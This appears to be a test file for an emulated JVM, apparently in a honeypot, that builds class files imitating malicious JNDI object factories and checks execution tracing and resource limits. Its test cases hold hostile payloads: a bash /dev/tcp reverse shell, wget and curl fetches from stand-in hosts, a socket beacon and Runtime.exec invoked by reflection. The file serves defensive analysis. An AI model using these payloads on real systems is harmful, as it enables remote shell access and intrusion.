/**
 * The emulated JVM on class files this test assembles (no javac needed): what a remote JNDI factory
 * does when it is loaded — commands, sockets, reflection, threads, exceptions — and the bounds
 * that stop a hostile one.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint, type NetworkEndpoint } from '../../../src/emulator/behaviour/network-endpoint.ts';
import { javaEnvironment } from '../../../src/emulator/jndi/index.ts';
import { runObjectFactory, type JvmLimits } from '../../../src/emulator/jvm/index.ts';
import type { DummyObservation } from '../../../src/emulator/services/observation.ts';
import { runShellCommand } from '../../../src/emulator/shell/index.ts';
import { ClassBuilder, type CodeAssembler } from './class-builder.ts';

const RUNTIME = 'java/lang/Runtime';
const GET_RUNTIME = '()Ljava/lang/Runtime;';
const EXEC_STRING = '(Ljava/lang/String;)Ljava/lang/Process;';
const EXEC_ARRAY = '([Ljava/lang/String;)Ljava/lang/Process;';

interface Harness {
  network: RecordingEndpoint;
  commands: { commandLine: string; origin: string }[];
  anomalies: string[];
  observations: DummyObservation[];
}

/** runs `bytes` as JNDI would; commands go to a real emulated sh whose network is the recording endpoint */
function run(bytes: Uint8Array, name: string, limits: Partial<JvmLimits> = {}, network = new RecordingEndpoint()) {
  const harness: Harness = { network, commands: [], anomalies: [], observations: [] };
  const result = runObjectFactory(bytes, name, {
    network,
    environment: javaEnvironment({ hostName: 'tomcat-dummy', javaVersion: '1.8.0_102', user: 'tomcat' }),
    os: 'linux',
    runCommand: (commandLine, origin) => {
      harness.commands.push({ commandLine, origin });
      return runShellCommand('sh', commandLine, { network: network as NetworkEndpoint, files: new Map(), environment: new Map([['PATH', '/usr/bin:/bin']]), origin, observe: (observation) => harness.observations.push(observation), now: () => 0 });
    },
    now: () => 0,
    anomaly: (anomaly) => harness.anomalies.push(anomaly),
    limits,
  });
  return { ...harness, result, summaries: result.trace.events.map((event) => event.summary) };
}

/** `Runtime.getRuntime().exec(<string on the stack>)`, result dropped */
function execTop(code: CodeAssembler): CodeAssembler {
  return code.astore(7).invokestatic(RUNTIME, 'getRuntime', GET_RUNTIME).aload(7).invokevirtual(RUNTIME, 'exec', EXEC_STRING).pop();
}

function execString(command: string): (code: CodeAssembler) => void {
  return (code) => execTop(code.ldc(command));
}

function constructorRunning(className: string, body: (code: CodeAssembler) => void, interfaces: string[] = []): ClassBuilder {
  return new ClassBuilder(className, 'java/lang/Object', interfaces).method('<init>', '()V', (code) => {
    code.aload(0).invokespecial('java/lang/Object', '<init>', '()V');
    body(code);
    code.return();
  });
}

describe('runObjectFactory: what a loaded class does', () => {
  it('Runtime.exec(String) runs the command, split on white space, naming the class and method', () => {
    const bytes = constructorRunning('Payload', execString("touch /tmp/pwned 'quoted arg'")).build();
    const { result, commands, summaries, observations } = run(bytes, 'Payload');
    assert.equal(result.className, 'Payload');
    assert.equal(result.trace.endReason, 'exit');
    // java.lang.Runtime tokenizes without honouring quotes: the quote characters stay in the arguments
    assert.deepEqual(commands, [{ commandLine: `touch /tmp/pwned ''\\''quoted' 'arg'\\'''`, origin: 'java:Payload.<init>' }]);
    assert.ok(summaries.includes("Payload.<init> runs touch /tmp/pwned 'quoted arg'"), summaries.join('\n'));
    assert.ok(observations.some((observation) => observation.kind === 'exec' && observation.origin === 'java:Payload.<init>' && observation.command.startsWith('touch /tmp/pwned')));
  });

  it('Runtime.exec(String[]) with a StringBuilder-built bash reverse shell connects through the endpoint', () => {
    const bytes = constructorRunning('RevShell', (code) => {
      code.iconst(3).anewarray('java/lang/String').astore(1);
      code.aload(1).iconst(0).ldc('/bin/bash').aastore();
      code.aload(1).iconst(1).ldc('-c').aastore();
      code.new('java/lang/StringBuilder').dup().ldc('bash -i >& /dev/tcp/').invokespecial('java/lang/StringBuilder', '<init>', '(Ljava/lang/String;)V');
      code.ldc('192.0.2.7').invokevirtual('java/lang/StringBuilder', 'append', '(Ljava/lang/String;)Ljava/lang/StringBuilder;');
      code.iconst(47).invokevirtual('java/lang/StringBuilder', 'append', '(C)Ljava/lang/StringBuilder;');
      code.iconst(4444).invokevirtual('java/lang/StringBuilder', 'append', '(I)Ljava/lang/StringBuilder;');
      code.ldc(' 0>&1').invokevirtual('java/lang/StringBuilder', 'append', '(Ljava/lang/String;)Ljava/lang/StringBuilder;');
      code.invokevirtual('java/lang/StringBuilder', 'toString', '()Ljava/lang/String;').astore(2);
      code.aload(1).iconst(2).aload(2).aastore();
      code.invokestatic(RUNTIME, 'getRuntime', GET_RUNTIME).aload(1).invokevirtual(RUNTIME, 'exec', EXEC_ARRAY).pop();
    }).build();
    const { commands, network, observations } = run(bytes, 'RevShell');
    assert.deepEqual(commands.map((command) => command.commandLine), [`/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'`]);
    assert.ok(network.transcript.connects.some((connect) => connect.address === '192.0.2.7' && connect.port === 4444), 'the shell opened /dev/tcp');
    assert.ok(observations.some((observation) => observation.kind === 'exec' && observation.command === '/bin/bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'));
  });

  it('java.net.Socket connects and sends what the class writes, on flush', () => {
    const bytes = constructorRunning('Beacon', (code) => {
      code.new('java/net/Socket').dup().ldc('198.51.100.9').iconst(8443).invokespecial('java/net/Socket', '<init>', '(Ljava/lang/String;I)V').astore(1);
      code.aload(1).invokevirtual('java/net/Socket', 'getOutputStream', '()Ljava/io/OutputStream;').astore(2);
      code.aload(2).ldc('hello from the dummy').invokevirtual('java/lang/String', 'getBytes', '()[B').invokevirtual('java/io/OutputStream', 'write', '([B)V');
      code.aload(2).invokevirtual('java/io/OutputStream', 'flush', '()V');
      code.aload(1).invokevirtual('java/net/Socket', 'close', '()V');
    }).build();
    const { network, summaries, result } = run(bytes, 'Beacon');
    const connect = network.transcript.connects.find((candidate) => candidate.address === '198.51.100.9' && candidate.port === 8443);
    assert.ok(connect);
    const sent = network.transcript.sent.filter((item) => item.socket === connect.socket).map((item) => Buffer.from(item.bytes).toString('latin1'));
    assert.deepEqual(sent, ['hello from the dummy']);
    assert.ok(summaries.includes('Beacon.<init> connects to 198.51.100.9:8443'));
    assert.equal(result.trace.endReason, 'exit');
  });

  it('a connection refused is a ConnectException the class can catch', () => {
    const refusing = new (class extends RecordingEndpoint {
      override connect() {
        return { kind: 'refused' as const };
      }
    })();
    const { commands, result } = run(
      constructorRunning('Retry', (code) => {
        code.label('try').new('java/net/Socket').dup().ldc('203.0.113.5').iconst(9001).invokespecial('java/net/Socket', '<init>', '(Ljava/lang/String;I)V').pop().label('tried').goto('done');
        code.label('caught').pop();
        execString('echo refused')(code);
        code.label('done');
        code.tryCatch('try', 'tried', 'caught', 'java/io/IOException');
      }).build(),
      'Retry',
      {},
      refusing,
    );
    assert.deepEqual(commands.map((command) => command.commandLine), ['echo refused']);
    assert.equal(result.trace.endReason, 'exit');
  });

  it('reflection: Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(…) runs the command', () => {
    const bytes = constructorRunning('Reflective', (code) => {
      code.ldc('java.lang.Runtime').invokestatic('java/lang/Class', 'forName', '(Ljava/lang/String;)Ljava/lang/Class;').astore(1);
      code.aload(1).ldc('getRuntime').iconst(0).anewarray('java/lang/Class').invokevirtual('java/lang/Class', 'getMethod', '(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;');
      code.aconstNull().iconst(0).anewarray('java/lang/Object').invokevirtual('java/lang/reflect/Method', 'invoke', '(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;').astore(2);
      code.aload(1).ldc('exec').iconst(1).anewarray('java/lang/Class').dup().iconst(0).ldcClass('java/lang/String').aastore();
      code.invokevirtual('java/lang/Class', 'getMethod', '(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;');
      code.aload(2).iconst(1).anewarray('java/lang/Object').dup().iconst(0).ldc('id').aastore();
      code.invokevirtual('java/lang/reflect/Method', 'invoke', '(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;').pop();
    }).build();
    const { commands, summaries } = run(bytes, 'Reflective');
    assert.deepEqual(commands, [{ commandLine: 'id', origin: 'java:Reflective.<init>' }]);
    assert.ok(summaries.some((summary) => summary.includes('calls java.lang.Runtime.exec by reflection')));
  });

  it('an exception thrown inside a try is caught by type, and a catch-all catches a throw', () => {
    const bytes = constructorRunning('Careful', (code) => {
      code.label('parse').ldc('not a number').invokestatic('java/lang/Integer', 'parseInt', '(Ljava/lang/String;)I').pop().label('parsed').goto('next');
      code.label('badNumber').invokevirtual('java/lang/Throwable', 'getMessage', '()Ljava/lang/String;').astore(3);
      code.new('java/lang/StringBuilder').dup().invokespecial('java/lang/StringBuilder', '<init>', '()V').ldc('echo ').invokevirtual('java/lang/StringBuilder', 'append', '(Ljava/lang/String;)Ljava/lang/StringBuilder;');
      code.aload(3).invokevirtual('java/lang/StringBuilder', 'append', '(Ljava/lang/String;)Ljava/lang/StringBuilder;').invokevirtual('java/lang/StringBuilder', 'toString', '()Ljava/lang/String;');
      execTop(code);
      code.label('next');
      code.label('throwing').new('java/lang/IllegalStateException').dup().invokespecial('java/lang/IllegalStateException', '<init>', '()V').athrow().label('thrown');
      code.label('anything').pop();
      execString('echo finally')(code);
      code.tryCatch('parse', 'parsed', 'badNumber', 'java/lang/NumberFormatException');
      code.tryCatch('throwing', 'thrown', 'anything', null);
    }).build();
    const { commands, result } = run(bytes, 'Careful');
    assert.deepEqual(commands.map((command) => command.commandLine), [`echo For input string: '"not' a 'number"'`, 'echo finally']);
    assert.equal(result.trace.endReason, 'exit');
  });

  it('an exception nobody catches ends the run, named in the trace', () => {
    const bytes = constructorRunning('Careless', (code) => {
      code.aconstNull().invokevirtual('java/lang/String', 'length', '()I').pop();
      execString('echo never')(code);
    }).build();
    const { commands, result } = run(bytes, 'Careless');
    assert.deepEqual(commands, []);
    assert.equal(result.trace.endReason, 'unhandled_exception');
    assert.match(result.trace.endDetail ?? '', /NullPointerException/);
  });

  it('<clinit>, then <init>, then getObjectInstance for an ObjectFactory; started threads run after', () => {
    const bytes = new ClassBuilder('Factory', 'java/lang/Object', ['javax/naming/spi/ObjectFactory', 'java/lang/Runnable'])
      .method('<clinit>', '()V', (code) => {
        execString('echo clinit')(code);
        code.return();
      })
      .method('<init>', '()V', (code) => {
        code.aload(0).invokespecial('java/lang/Object', '<init>', '()V');
        code.new('java/lang/Thread').dup().aload(0).invokespecial('java/lang/Thread', '<init>', '(Ljava/lang/Runnable;)V').invokevirtual('java/lang/Thread', 'start', '()V');
        execString('echo init')(code);
        code.return();
      })
      .method('run', '()V', (code) => {
        execString('echo thread')(code);
        code.return();
      })
      .method('getObjectInstance', '(Ljava/lang/Object;Ljavax/naming/Name;Ljavax/naming/Context;Ljava/util/Hashtable;)Ljava/lang/Object;', (code) => {
        execString('echo factory')(code);
        code.aconstNull().areturn();
      })
      .build();
    const { commands, result } = run(bytes, 'Factory');
    assert.deepEqual(commands.map((command) => command.commandLine), ['echo clinit', 'echo init', 'echo factory', 'echo thread']);
    assert.deepEqual(commands.map((command) => command.origin), ['java:Factory.<clinit>', 'java:Factory.<init>', 'java:Factory.getObjectInstance', 'java:Factory.run']);
    assert.equal(result.trace.endReason, 'exit');
  });

  it('an interactive shell started by ProcessBuilder runs the lines written to its stdin', () => {
    const bytes = constructorRunning('Pipe', (code) => {
      code.new('java/lang/ProcessBuilder').dup().iconst(1).anewarray('java/lang/String').dup().iconst(0).ldc('/bin/sh').aastore();
      code.invokespecial('java/lang/ProcessBuilder', '<init>', '([Ljava/lang/String;)V').invokevirtual('java/lang/ProcessBuilder', 'start', '()Ljava/lang/Process;').astore(1);
      code.aload(1).invokevirtual('java/lang/Process', 'getOutputStream', '()Ljava/io/OutputStream;').astore(2);
      code.aload(2).ldc('echo first\nwget http://198.51.100.30/x.sh\n').invokevirtual('java/lang/String', 'getBytes', '()[B').invokevirtual('java/io/OutputStream', 'write', '([B)V');
      code.aload(2).invokevirtual('java/io/OutputStream', 'flush', '()V');
      code.new('java/io/BufferedReader').dup().new('java/io/InputStreamReader').dup().aload(1).invokevirtual('java/lang/Process', 'getInputStream', '()Ljava/io/InputStream;');
      code.invokespecial('java/io/InputStreamReader', '<init>', '(Ljava/io/InputStream;)V').invokespecial('java/io/BufferedReader', '<init>', '(Ljava/io/Reader;)V');
      code.invokevirtual('java/io/BufferedReader', 'readLine', '()Ljava/lang/String;').astore(3);
      code.new('java/lang/StringBuilder').dup().ldc('echo got ').invokespecial('java/lang/StringBuilder', '<init>', '(Ljava/lang/String;)V').aload(3);
      code.invokevirtual('java/lang/StringBuilder', 'append', '(Ljava/lang/String;)Ljava/lang/StringBuilder;').invokevirtual('java/lang/StringBuilder', 'toString', '()Ljava/lang/String;');
      execTop(code);
    }).build();
    const { commands, network } = run(bytes, 'Pipe');
    assert.deepEqual(commands.map((command) => command.commandLine), ['/bin/sh', 'echo first', 'wget http://198.51.100.30/x.sh', 'echo got first']);
    assert.ok(network.transcript.connects.some((connect) => connect.address === '198.51.100.30' && connect.port === 80), 'wget reached out');
  });

  it('string concatenation by invokedynamic (javac 9+) builds the command', () => {
    const builder = new ClassBuilder('Modern');
    const bootstrap = builder.methodHandle(6, 'java/lang/invoke/StringConcatFactory', 'makeConcatWithConstants', '(Ljava/lang/invoke/MethodHandles$Lookup;Ljava/lang/String;Ljava/lang/invoke/MethodType;Ljava/lang/String;[Ljava/lang/Object;)Ljava/lang/invoke/CallSite;');
    const site = builder.invokeDynamic({ handle: bootstrap, args: [builder.string('curl -s http://\u0001:\u0001/\u0002')] }, 'makeConcatWithConstants', '(Ljava/lang/String;I)Ljava/lang/String;');
    builder.method('<init>', '()V', (code) => {
      code.aload(0).invokespecial('java/lang/Object', '<init>', '()V');
      code.ldc('198.51.100.44').iconst(8080).invokedynamic(site);
      execTop(code).return();
    });
    const { commands } = run(builder.build(), 'Modern');
    assert.deepEqual(commands.map((command) => command.commandLine), ['curl -s http://198.51.100.44:8080/null']);
  });
});

describe('runObjectFactory: bounds and hostile classes', () => {
  it('an endless loop stops at the instruction limit', () => {
    const bytes = constructorRunning('Spin', (code) => code.label('top').goto('top')).build();
    const { result } = run(bytes, 'Spin', { maxInstructions: 10_000 });
    assert.equal(result.trace.endReason, 'instruction_limit');
    assert.ok(result.trace.instructionCount >= 10_000 && result.trace.instructionCount <= 10_001);
  });

  it('endless recursion is a StackOverflowError at the call-depth limit', () => {
    const bytes = constructorRunning('Deep', (code) => code.invokestatic('Deep', 'down', '()V'))
      .method('down', '()V', (code) => code.invokestatic('Deep', 'down', '()V').return(), { flags: 0x0009 })
      .build();
    const { result } = run(bytes, 'Deep', { maxCallDepth: 40 });
    assert.equal(result.trace.endReason, 'unhandled_exception');
    assert.match(result.trace.endDetail ?? '', /StackOverflowError/);
  });

  it('allocation without end stops at the heap limit', () => {
    const bytes = constructorRunning('Hog', (code) => code.label('top').new('java/lang/Object').pop().goto('top')).build();
    const { result } = run(bytes, 'Hog', { maxHeapObjects: 500 });
    assert.equal(result.trace.endReason, 'memory_limit');
  });

  it('a poll loop on a connection that will never speak again stops when it idles', () => {
    const bytes = constructorRunning('Poll', (code) => {
      code.new('java/net/Socket').dup().ldc('192.0.2.70').iconst(9001).invokespecial('java/net/Socket', '<init>', '(Ljava/lang/String;I)V').astore(1);
      code.label('top').aload(1).invokevirtual('java/net/Socket', 'getInputStream', '()Ljava/io/InputStream;').invokevirtual('java/io/InputStream', 'available', '()I').pop();
      code.ldc2(50n).invokestatic('java/lang/Thread', 'sleep', '(J)V').goto('top');
    }).build();
    const { result } = run(bytes, 'Poll', { maxIdleSleeps: 30 });
    assert.equal(result.trace.endReason, 'blocked');
    // the first sleep follows the connect; the 30 after it had nothing outward between them
    assert.equal(result.trace.virtualTimeMs, (1 + 30) * 50);
  });

  it('a method nobody models is an unsupported event, counted, and the run goes on', () => {
    const bytes = constructorRunning('Odd', (code) => {
      code.ldc('x').invokestatic('java/lang/management/ManagementFactory', 'strangeCall', '(Ljava/lang/String;)Ljava/lang/Object;').pop();
      execString('echo still running')(code);
    }).build();
    const { result, commands, anomalies } = run(bytes, 'Odd');
    assert.equal(result.unsupportedCalls, 1);
    assert.deepEqual(anomalies, ['jvm.unsupported_method']);
    const unsupported = result.trace.events.find((event) => event.api === 'jvm.unsupported');
    assert.ok(unsupported && unsupported.summary.includes('java.lang.management.ManagementFactory.strangeCall') && unsupported.summary.includes('Odd.<init>'));
    assert.deepEqual(commands.map((command) => command.commandLine), ['echo still running']);
  });

  it('bytes that are no class, or a cut-off class, are a fault in the trace and never an exception', () => {
    const good = constructorRunning('Cut', execString('echo hi')).build();
    for (const bytes of [Uint8Array.of(1, 2, 3), good.subarray(0, 40), good.subarray(0, good.length - 30), Uint8Array.from(good, (byte, index) => (index > 10 && index % 7 === 0 ? byte ^ 0x5a : byte))]) {
      const { result, anomalies } = run(bytes, 'Cut');
      assert.ok(['fault', 'exit', 'unhandled_exception', 'invalid_opcode'].includes(result.trace.endReason), result.trace.endReason);
      if (result.className === null) assert.ok(anomalies.includes('jvm.class_format_error'));
    }
  });

  it('a class whose name is not the one asked for does not run (NoClassDefFoundError)', () => {
    const { result, commands } = run(constructorRunning('Other', execString('echo hi')).build(), 'Expected');
    assert.deepEqual(commands, []);
    assert.match(result.trace.endDetail ?? '', /NoClassDefFoundError/);
  });
});
